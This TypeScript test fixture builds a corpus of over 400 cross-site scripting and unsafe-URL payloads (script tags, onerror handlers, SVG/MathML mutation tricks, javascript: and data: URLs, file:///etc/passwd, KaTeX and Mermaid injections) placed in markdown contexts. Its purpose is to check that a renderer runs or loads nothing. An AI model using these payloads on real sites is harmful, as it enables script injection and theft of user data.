/**
 * Texts that would act if anything that shows them let them (I01–I04): each way to make a
 * page run, load or lead somewhere, in each place of a text that is read in a way of its
 * own. What would run calls `ran()`; what would load asks `canary.invalid`.
 */

/** What would happen if a vector worked: the page's own function, which the tests watch. */
const RUN = 'ran(1)';
const CANARY = 'https://canary.invalid/x';

/** Markup that acts by itself or when it is looked at. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${CANARY}.js"></script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src="${CANARY}.png" srcset="${CANARY}.png 2x">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<math href="javascript:${RUN}">press</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="${CANARY}.swf">`,
  `<link rel=stylesheet href="${CANARY}.css">`,
  `<link rel=prefetch href="${CANARY}">`,
  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
  `<base href="${CANARY}/">`,
  `<style>*{background:url(${CANARY}.gif)}</style>`,
  `<p style="background:url(${CANARY}.gif)">styled</p>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src="${CANARY}.mp4" poster="${CANARY}.png" autoplay>`,
  `<audio src="${CANARY}.mp3" autoplay onerror=${RUN}>`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="${CANARY}" ping="${CANARY}">press</a>`,
  `<div onmouseover=${RUN} style="position:fixed;inset:0">over all</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `</textarea></title></script><img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<dialog open id="conversation"><form method=dialog><button>Sign in</button></form></dialog>`,
] as const;

/** Addresses that run, load or deceive. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  'file:///etc/passwd',
  `blob:${CANARY}`,
  `//canary.invalid/x`,
  `\\\\canary.invalid\\x`,
  `https://example.com@canary.invalid/`,
  `https://canary.invalid/?q=\u202egnp.exe`,
] as const;

type Place = (text: string) => string;

/** Places for markup: each is read by another part of what draws an answer. */
const TEXT_PLACES: Record<string, Place> = {
  alone: (text) => text,
  paragraph: (text) => `Before ${text} after.`,
  code: (text) => `\`\`\`html\n${text}\n\`\`\``,
  language: (text) => `\`\`\`${text.replaceAll('`', '')}\nx\n\`\`\``,
  table: (text) => `| a | b |\n| --- | --- |\n| ${text.replaceAll('|', '\\|')} | x |`,
  list: (text) => `- one\n- ${text}\n  - [ ] ${text}`,
  label: (text) => `[${text}](https://canary.invalid/label "${text.replaceAll('"', "'")}")`,
};

/** Places for addresses. */
const ADDRESS_PLACES: Record<string, Place> = {
  link: (address) => `[press](${address})`,
  pointed: (address) => `[press](<${address}>)`,
  image: (address) => `![look](${address})`,
  named: (address) => `[press][n] and ![look][n]\n\n[n]: ${address}`,
  bare: (address) => `See <${address}> or ${address} there.`,
  quoted: (address) => `<a href="${address}">press</a> <img src="${address}">`,
};

/** What only one part of an answer reads: formulas and diagrams. */
const OTHERS = [
  `$$\\href{javascript:${RUN}}{x}$$`,
  `$$\\url{javascript:${RUN}}$$`,
  `$$\\includegraphics{${CANARY}.png}$$`,
  `$$\\htmlData{x=1}{\\htmlStyle{background:url(${CANARY})}{x}}$$`,
  `$$\\text{<img src=x onerror=${RUN}>}$$`,
  `\`\`\`mermaid\ngraph TD; a["<img src=x onerror=${RUN}>"]\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD; a-->b; click a "javascript:${RUN}"\n\`\`\``,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}> [press](javascript:${RUN})`,
  `[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: note`,
];

/** A text of the corpus and where it comes from. */
export interface Attack {
  name: string;
  text: string;
}

/** Every vector in every place it fits: more than 400 texts. */
export const ATTACKS: Attack[] = [
  ...placed('markup', MARKUP, TEXT_PLACES),
  ...placed('address', ADDRESSES, ADDRESS_PLACES),
  ...OTHERS.map((text, n) => ({ name: `other ${n}`, text })),
];

/** The vectors as they are, for where text is not read at all: names, titles, arguments. */
export const PLAIN_ATTACKS: string[] = [...MARKUP, ...ADDRESSES];

function placed(kind: string, vectors: readonly string[], places: Record<string, Place>): Attack[] {
  return Object.entries(places).flatMap(([place, put]) =>
    vectors.map((vector, n) => ({ name: `${kind} ${n} ${place}`, text: put(vector) })),
  );
}
